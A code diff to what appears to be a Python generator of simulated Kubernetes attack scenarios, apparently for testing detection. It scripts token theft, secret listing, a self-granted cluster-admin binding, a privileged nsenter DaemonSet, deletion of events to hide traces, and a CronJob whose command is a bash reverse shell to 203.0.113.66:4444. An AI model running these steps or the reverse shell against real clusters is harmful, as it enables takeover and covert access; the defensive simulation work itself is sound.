@@ -127,10 +127,10 @@ def _stolen_token(teller: Teller, cast: Cast) -> None:
     teller.step("It enters a pod of the payment service and reads the token there", "A08 C01 C06", ci, entries, 40)
     teller.rest(2.5)
     api = cast.account("payments", "api", KUBECTL)._replace(peer=peer, agent=KUBECTL, reason=_OPS_LEGACY)
-    _spread(teller, api)
+    _spread(teller, api, cast)
 
 
-def _spread(teller: Teller, api: Identity) -> None:
+def _spread(teller: Teller, api: Identity, cast: Cast) -> None:
     lists = [Ask(f"list core/secrets {namespace}/") for namespace in ("payments", "identity", "data")]
     teller.step(
         "The account of that pod now speaks from the same address and lists secrets", "A08 F03 F08", api, lists, 30
@@ -142,13 +142,13 @@ def _spread(teller: Teller, api: Identity) -> None:
     body = bodies.encode(bodies.binding(name, "cluster-admin", subject))
     grant = Ask(f"create {_RBAC}/clusterrolebindings /{name}", 201, sent=body, answered=body)
     teller.step("It makes itself cluster-admin", "A08 E01 E07 E16", api, [grant])
-    _settle(teller, api)
+    _settle(teller, api, cast)
     teller.step("It takes back the binding", "E03 N12", api, [Ask(f"delete {_RBAC}/clusterrolebindings /{name}")], 60)
     traces = [Ask(f"delete core/events {place}") for place in ("payments/payments-api.1841", "kube-system/tuner.1842")]
     teller.step("It removes traces", "I01", api, traces)
 
 
-def _settle(teller: Teller, api: Identity) -> None:
+def _settle(teller: Teller, api: Identity, cast: Cast) -> None:
     image = "docker.example.com/tools/tuner:latest"
     spec = bodies.host_pod_spec("node-tuner", image, "nsenter", "-t", "1", "-m", "--", "/host/opt/tuner")
     body = bodies.encode(bodies.workload("DaemonSet", "kube-system", "node-tuner", spec))
@@ -156,6 +156,11 @@ def _settle(teller: Teller, api: Identity) -> None:
     teller.step(
         "It runs a privileged container with the disk of every node", "D01 D05 D06 D07 G02 N11", api, [daemons], 45
     )
+    names = [f"node-tuner-{teller.scribe.hex(5)}" for _ in range(4)]
+    wanted, *made = (bodies.pod("kube-system", "node-tuner", "DaemonSet", spec, name) for name in ("", *names))
+    pods = [Ask("create core/pods kube-system/", 201, sent=wanted, answered=answered) for answered in made]
+    controller = cast.controller("daemon-set-controller")
+    teller.step("The controller starts it on four nodes", "D01 D05 D06 D07 D12", controller, pods, 0.1)
     shell = "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
     job = {"containers": [{"name": "rotate", "image": image, "command": ["bash", "-c", shell]}]}
     cron = bodies.encode(bodies.cron_job("kube-system", "log-rotate", "*/30 * * * *", job))
@@ -184,11 +189,11 @@ def _node_identity(teller: Teller, cast: Cast) -> None:
     kubelet = cast.node(3)._replace(agent=KUBECTL)
     note = "node 'worker-3' cannot read '{}', only its own"
     denied = "authorization.k8s.io/reason"
-    secrets = ("payments/ledger-db", "payments/gateway-credentials", "identity/signing-key", "data/orders-superuser")
+    names = ("ledger-db", "gateway-credentials", "signing-key")
+    secrets = [f"{namespace}/{name}" for namespace in ("payments", "identity", "data") for name in names]
     refusals = [Ask(f"get core/secrets {name}", 403, note=((denied, _UNRELATED.format(name)),)) for name in secrets]
-    refusals += [
-        Ask(f"list core/secrets {ns}/", 403, note=((denied, note.format("secrets")),)) for ns in ("ci", "argocd")
-    ]
+    broad = ((denied, note.format("secrets")),)
+    refusals += [Ask(f"list core/secrets {namespace}/", 403, note=broad) for namespace in ("ci", "argocd", "velero")]
     teller.step(
         "The identity of a node, with kubectl, is refused secrets of pods that run elsewhere",
         "A07 F02",
@@ -200,7 +205,7 @@ def _node_identity(teller: Teller, cast: Cast) -> None:
     teller.step("It reads secrets of pods that run on it", "F01 F08", kubelet, own, 6)
     issued = (("authentication.kubernetes.io/issued-credential-id", f"JTI={uid(teller.scribe.rng)}"),)
     token = Ask("create core/serviceaccounts/token checkout/cart", 201, note=issued)
-    teller.step("It asks for the token of a service account", "N08", kubelet, [token], 10)
+    teller.step("It asks for the token of a service account", "", kubelet, [token], 10)
 
 
 def _own_certificate(teller: Teller, cast: Cast) -> None:
